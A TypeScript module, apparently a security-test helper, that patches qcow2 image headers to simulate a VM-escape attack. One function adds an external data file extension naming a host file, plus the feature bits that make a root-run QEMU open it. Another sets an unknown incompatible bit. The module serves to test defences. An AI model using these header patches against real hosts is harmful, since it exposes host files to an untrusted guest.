/**
 * What an escaped VMM can do to the qcow2 overlay it owns: rewrite its header so that
 * whoever opens the image next (a restore's QEMU, still root while it opens its files, or
 * flattening's image tool) also opens a host file as the image's external data file, or sees
 * a feature it does not know. Each function returns the header cluster (the image's first
 * 64 KiB) patched; the caller writes it back in place.
 */
import { open } from "node:fs/promises";

const HEADER_CLUSTER = 64 * 1024;
const EXT_DATA_FILE = 0x44415441;
const INCOMPATIBLE_DATA_FILE = 2n;
const AUTOCLEAR_RAW_DATA = 1n;

const align8 = (n: number) => (n + 7) & ~7;

export async function readHeaderCluster(path: string): Promise<Buffer> {
  const handle = await open(path, "r");
  try {
    const cluster = Buffer.alloc(HEADER_CLUSTER);
    await handle.read(cluster, 0, HEADER_CLUSTER, 0);
    return cluster;
  } finally {
    await handle.close();
  }
}

/**
 * The header with an external data file extension naming `hostFile` (and the incompatible
 * bit that makes QEMU open it; `raw`: the autoclear bit that makes guest offsets host
 * offsets). The backing name moves after the new extension.
 */
export function withDataFile(cluster: Buffer, hostFile: string, raw = true): Buffer {
  const out = Buffer.from(cluster);
  const headerLength = out.readUInt32BE(100);
  const backingOffset = Number(out.readBigUInt64BE(8));
  const backingLength = out.readUInt32BE(16);
  const backing = Buffer.from(out.subarray(backingOffset, backingOffset + backingLength));
  // Existing extensions up to the end marker (type 0).
  let at = headerLength;
  const kept: Buffer[] = [];
  for (;;) {
    const type = out.readUInt32BE(at);
    const length = out.readUInt32BE(at + 4);
    if (type === 0) break;
    kept.push(Buffer.from(out.subarray(at, at + 8 + align8(length))));
    at += 8 + align8(length);
  }
  const name = Buffer.from(hostFile, "utf8");
  const ext = Buffer.alloc(8 + align8(name.length));
  ext.writeUInt32BE(EXT_DATA_FILE, 0);
  ext.writeUInt32BE(name.length, 4);
  name.copy(ext, 8);
  const extensions = Buffer.concat([...kept, ext, Buffer.alloc(8)]);
  out.fill(0, headerLength, headerLength + extensions.length + backing.length + 64);
  extensions.copy(out, headerLength);
  const newBackingOffset = headerLength + extensions.length;
  backing.copy(out, newBackingOffset);
  out.writeBigUInt64BE(BigInt(newBackingOffset), 8);
  out.writeBigUInt64BE(out.readBigUInt64BE(72) | (1n << INCOMPATIBLE_DATA_FILE), 72);
  if (raw) out.writeBigUInt64BE(out.readBigUInt64BE(88) | (1n << AUTOCLEAR_RAW_DATA), 88);
  return out;
}

/** The header with incompatible feature bit `bit` set (one no QEMU knows, e.g. 40). */
export function withIncompatibleBit(cluster: Buffer, bit: number): Buffer {
  const out = Buffer.from(cluster);
  out.writeBigUInt64BE(out.readBigUInt64BE(72) | (1n << BigInt(bit)), 72);
  return out;
}
